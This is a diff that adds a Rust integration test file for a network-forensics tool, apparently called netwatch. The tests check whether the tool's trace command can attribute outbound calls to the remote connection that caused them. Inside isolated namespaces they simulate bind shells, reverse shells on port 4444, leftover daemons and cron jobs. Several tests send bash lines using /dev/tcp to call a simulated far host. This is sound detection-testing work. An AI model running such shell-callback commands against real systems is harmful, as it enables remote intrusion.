@@ -1,0 +1,296 @@
+//! The way in, asked for when every process and every connection is gone: what `trace` says of what `record` recorded.
+
+use std::path::{Path, PathBuf};
+
+use serde_json::Value;
+use tempfile::TempDir;
+use tests::{Actor, Cgroup, Far, FarSocket, Netns, Tree, Watch, Wire, in_fresh_netns, netwatch, port};
+
+/// What everybody calls out to, on the far host.
+const OUT: u16 = 443;
+
+/// A recorder, and what it records into.
+struct Recording {
+    watch: Watch,
+    store: PathBuf,
+    _directory: TempDir,
+}
+
+impl Recording {
+    fn begin() -> Self {
+        let directory = tempfile::tempdir().expect("a directory");
+        let store = directory.path().join("netwatch.db");
+        Self { watch: Watch::recording(&store, &[]), store, _directory: directory }
+    }
+
+    /// Waits for the call to `remote`:[`OUT`] to be over, ends the recorder, and asks.
+    fn ask(mut self, remote: &str) -> Value {
+        self.watch.expect("the end of the call out", |event| {
+            event["event"] == "close" && event["remote"]["ip"] == remote && port(event, "remote") == OUT
+        });
+        self.watch.finish();
+        trace(&self.store, &format!("{remote}:{OUT}"))
+    }
+}
+
+/// The only match.
+fn trace(store: &Path, selector: &str) -> Value {
+    let store = store.to_str().expect("a path in UTF-8");
+    let output = netwatch(&["trace", "--json", "--store", store, selector]);
+    assert!(output.status.success(), "{output:?}");
+    let found: Value = serde_json::from_slice(&output.stdout).expect("an object");
+    assert_eq!(found["selector"], selector);
+    assert_eq!(found["matches"].as_array().map(Vec::len), Some(1), "{found:#}");
+    found["matches"][0].clone()
+}
+
+fn actor() -> Actor {
+    Actor::start(env!("CARGO_BIN_EXE_actor"))
+}
+
+/// Lets it listen on all addresses; returns the port.
+fn listens(server: &mut Actor) -> u16 {
+    port_of(&server.say("listen 0.0.0.0:0 8"))
+}
+
+fn port_of(address: &str) -> u16 {
+    address.rsplit(':').next().and_then(|port| port.parse().ok()).expect("a port")
+}
+
+/// Takes the call, and hangs up.
+fn answered(out: FarSocket) {
+    out.connected();
+    out.close();
+}
+
+#[track_caller]
+fn came_from(found: &Value, far: &Far, port: u16) {
+    let origin = &found["origin"];
+    assert_eq!(
+        (&origin["kind"], &origin["ip"], &origin["port"]),
+        (&"remote".into(), &far.ip.as_str().into(), &port.into()),
+        "{found:#}"
+    );
+    assert_eq!(origin["process"], Value::Null);
+    assert!(origin["confidence"] == "observed" || origin["confidence"] == "inferred", "{found:#}");
+}
+
+/// Pids of the processes on the way, the first being who called out.
+fn pids(found: &Value) -> Vec<u64> {
+    let chain = found["chain"].as_array().expect("a chain");
+    chain
+        .iter()
+        .filter(|step| step["kind"] == "process")
+        .filter_map(|step| step["process"]["pid"].as_u64())
+        .collect()
+}
+
+/// A shell that somebody from far away talks to calls out.
+#[test]
+fn a_bind_shell() {
+    in_fresh_netns(|| {
+        let recording = Recording::begin();
+        let (far, mut server) = (Far::away(), actor());
+        let pid = server.pid();
+        let at = listens(&mut server);
+        let out = far.listen(OUT);
+        let attacker = far.connect(at);
+        server.say("accept");
+        server.begin("become /bin/bash");
+        attacker.send(&format!("exec 3<>/dev/tcp/{}/{OUT}; read -r line <&3; exit\n", far.ip));
+        answered(out);
+        server.ended();
+        let found = recording.ask(&far.ip);
+        came_from(&found, &far, attacker.port);
+        assert_eq!(pids(&found), [u64::from(pid)]);
+        assert_eq!(found["chain"][0]["process"]["comm"], "bash");
+    });
+}
+
+/// A web server is made to start a shell that calls back, and that shell calls out.
+#[test]
+fn a_reverse_shell() {
+    in_fresh_netns(|| {
+        let recording = Recording::begin();
+        let (far, mut server) = (Far::away(), actor());
+        let at = listens(&mut server);
+        let (back, out) = (far.listen(4444), far.listen(OUT));
+        let attacker = far.connect(at);
+        server.say("accept");
+        server.begin(&format!("on-request shell {}:4444", far.ip));
+        attacker.send("x");
+        back.connected();
+        back.send(&format!("exec 3<>/dev/tcp/{}/{OUT}; read -r line <&3; exit\n", far.ip));
+        answered(out);
+        server.answer().expect("the shell ends");
+        let server_pid = server.pid();
+        server.kill();
+        let store = recording.store.clone();
+        let directory = recording.ask(&far.ip);
+        came_from(&directory, &far, attacker.port);
+        assert_eq!(pids(&directory).last(), Some(&u64::from(server_pid)));
+        let _ = store;
+    });
+}
+
+/// A child takes care of the connection, and its own child calls out, when nobody has anything fresh to act upon.
+#[test]
+fn separated_privileges() {
+    in_fresh_netns(|| {
+        let recording = Recording::begin();
+        let (far, mut server) = (Far::away(), actor());
+        let at = listens(&mut server);
+        let out = far.listen(OUT);
+        let neighbour = far.connect(at);
+        server.say("accept");
+        let client = far.connect(at);
+        server.say("accept");
+        server.begin(&format!("privileges {}:{OUT}", far.ip));
+        client.send("x");
+        answered(out);
+        server.answer().expect("all children end");
+        server.kill();
+        let found = recording.ask(&far.ip);
+        came_from(&found, &far, client.port);
+        assert_ne!(client.port, neighbour.port);
+        assert_eq!(pids(&found).len(), 2);
+    });
+}
+
+/// What a request made a web server start outlives it, and calls out later. Others are connected all the while.
+#[test]
+fn a_daemon_that_a_request_left_behind() {
+    in_fresh_netns(|| {
+        let recording = Recording::begin();
+        let (far, mut server, mut other) = (Far::away(), actor(), actor());
+        let (at, at_other) = (listens(&mut server), listens(&mut other));
+        let out = far.listen(OUT);
+        let neighbours = [far.connect(at), far.connect(at_other)];
+        server.say("accept");
+        other.say("accept");
+        let client = far.connect(at);
+        server.say("accept");
+        server.begin(&format!("on-request daemonize {}:{OUT}", far.ip));
+        client.send("x");
+        server.answer().expect("the daemon is there");
+        server.kill();
+        answered(out);
+        drop(neighbours);
+        let found = recording.ask(&far.ip);
+        came_from(&found, &far, client.port);
+        assert_eq!(found["origin"]["confidence"], "inferred");
+        assert_eq!(pids(&found).len(), 3);
+    });
+}
+
+/// From far away to a proxy, from there over loopback to another, and out.
+#[test]
+fn two_hops() {
+    in_fresh_netns(|| {
+        let recording = Recording::begin();
+        let (far, mut first, mut second) = (Far::away(), actor(), actor());
+        let (at, inner) = (listens(&mut first), listens(&mut second));
+        let out = far.listen(OUT);
+        second.begin(&format!("proxy {}:{OUT}", far.ip));
+        first.begin(&format!("proxy 127.0.0.1:{inner}"));
+        let client = far.connect(at);
+        first.answer().expect("a hop");
+        second.answer().expect("a hop");
+        let both = [u64::from(second.pid()), u64::from(first.pid())];
+        first.kill();
+        second.kill();
+        answered(out);
+        let found = recording.ask(&far.ip);
+        came_from(&found, &far, client.port);
+        assert_eq!(found["origin"]["confidence"], "observed");
+        assert_eq!(pids(&found), both);
+    });
+}
+
+/// A program that was started on a connection.
+#[test]
+fn inetd() {
+    in_fresh_netns(|| {
+        let recording = Recording::begin();
+        let (far, mut server) = (Far::away(), actor());
+        let at = listens(&mut server);
+        let out = far.listen(OUT);
+        let client = far.connect(at);
+        server.say("accept");
+        let script = format!("sleep+0.02;exec+3<>/dev/tcp/{}/{OUT};read+-r+line+<&3", far.ip);
+        let shell: u64 =
+            server.say(&format!("spawn connection /bin/bash -c {script}")).parse().expect("a pid");
+        answered(out);
+        server.kill();
+        let found = recording.ask(&far.ip);
+        came_from(&found, &far, client.port);
+        assert_eq!(pids(&found), [shell]);
+    });
+}
+
+/// A service runs a job by the clock. Somebody is connected to it, and has nothing to do with that.
+#[test]
+fn a_job_by_the_clock() {
+    in_fresh_netns(|| {
+        let group = Cgroup::new(Tree::Unified, "cron.service");
+        let recording = Recording::begin();
+        let (far, mut cron) = (Far::away(), actor());
+        group.takes(cron.pid());
+        let at = listens(&mut cron);
+        let out = far.listen(OUT);
+        let client = far.connect(at);
+        cron.say("accept");
+        client.send("x");
+        cron.say("recv 1");
+        cron.begin(&format!("job {}:{OUT}", far.ip));
+        answered(out);
+        cron.answer().expect("the job ends");
+        let pid = cron.pid();
+        cron.kill();
+        let found = recording.ask(&far.ip);
+        let origin = &found["origin"];
+        assert_eq!(
+            (&origin["kind"], &origin["process"]["pid"]),
+            (&"service".into(), &pid.into()),
+            "{found:#}"
+        );
+        assert_eq!(origin["process"]["unit"], "cron.service");
+        assert_eq!((&origin["ip"], &origin["port"]), (&Value::Null, &Value::Null));
+        // It is told all the same.
+        assert_eq!(origin["possible"][0]["remote"]["port"], client.port);
+    });
+}
+
+/// A peer in another namespace is on this host: the walk goes on there.
+#[test]
+fn a_peer_in_a_namespace() {
+    let (here, there) = (Netns::fresh(), Netns::fresh());
+    let wire = Wire::between(&here, &there);
+    here.inside(|| {
+        let recording = Recording::begin();
+        let (far, mut server) = (Far::away(), actor());
+        let at = listens(&mut server);
+        let mut client = there.inside(actor);
+        let out = far.listen(OUT);
+        server.begin(&format!("proxy {}:{OUT}", far.ip));
+        client.say(&format!("connect - {}:{at}", wire.a));
+        server.answer().expect("a hop");
+        let both = [u64::from(server.pid()), u64::from(client.pid())];
+        server.kill();
+        client.kill();
+        answered(out);
+        let found = recording.ask(&far.ip);
+        assert_eq!(pids(&found)[..2], both);
+        let hop = found["chain"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .find(|step| step["kind"] == "connection" && step["connection"]["netns"] == there.inum());
+        assert!(hop.is_some(), "{found:#}");
+        // The test itself was there before.
+        assert_eq!(found["origin"]["kind"], "unknown");
+        assert!(
+            found["origin"]["missing"][0].as_str().is_some_and(|why| why.contains("before recording began"))
+        );
+    });
+}
